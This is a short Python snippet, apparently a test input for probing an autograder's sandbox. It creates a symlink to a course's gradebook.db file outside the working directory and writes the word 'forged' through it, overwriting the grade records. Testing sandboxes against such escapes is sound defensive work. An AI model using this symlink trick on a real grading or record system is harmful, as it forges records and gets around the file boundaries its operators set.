# A link to the outside.
import os
os.symlink('{course}/gradebook.db', 'link')
open('link', 'w').write('forged')
